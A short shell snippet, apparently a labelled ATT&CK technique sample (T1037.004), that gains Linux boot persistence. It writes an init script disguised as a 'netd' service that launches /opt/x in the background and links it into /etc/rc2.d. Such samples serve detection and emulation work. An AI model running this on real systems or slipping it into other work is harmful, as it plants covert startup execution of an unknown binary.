# title: A script of System V's init
# technique: T1037 T1037.004

printf '#!/bin/sh\n### BEGIN INIT INFO\n# Provides: netd\n### END INIT INFO\n/opt/x &\n' >/etc/init.d/netd
chmod +x /etc/init.d/netd && mkdir -p /etc/rc2.d && ln -s ../init.d/netd /etc/rc2.d/S99netd
